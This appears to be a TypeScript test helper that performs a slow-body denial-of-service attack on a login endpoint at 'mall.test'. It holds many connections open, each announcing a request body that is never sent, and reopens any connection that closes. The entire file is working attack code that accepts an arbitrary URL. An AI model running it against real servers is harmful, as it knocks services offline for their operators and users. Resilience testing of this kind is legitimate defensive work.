import net from 'node:net';

const HALF_SENT = [
  'POST /api/login HTTP/1.1',
  'host: mall.test',
  'content-type: application/json',
  'content-length: 9',
  '\r\n',
].join('\r\n');

export interface Attack {
  /** Number of connections opened so far. */
  opened(): number;
  stop(): void;
}

/** Keeps `connections` open that announce a body and send none; each is reopened when it is answered or closed. */
export function attackWithSlowBodies(url: string, connections: number): Attack {
  const { hostname, port } = new URL(url);
  const open = new Set<net.Socket>();
  let opened = 0;
  let stopped = false;
  const connect = () => {
    if (stopped) return;
    opened++;
    const socket = net.connect(Number(port), hostname);
    open.add(socket);
    socket.on('error', () => undefined);
    socket.on('data', () => socket.destroy());
    socket.on('close', () => {
      open.delete(socket);
      setImmediate(connect);
    });
    socket.write(HALF_SENT);
  };
  for (let i = 0; i < connections; i++) connect();
  return {
    opened: () => opened,
    stop: () => {
      stopped = true;
      for (const socket of open) socket.destroy();
    },
  };
}
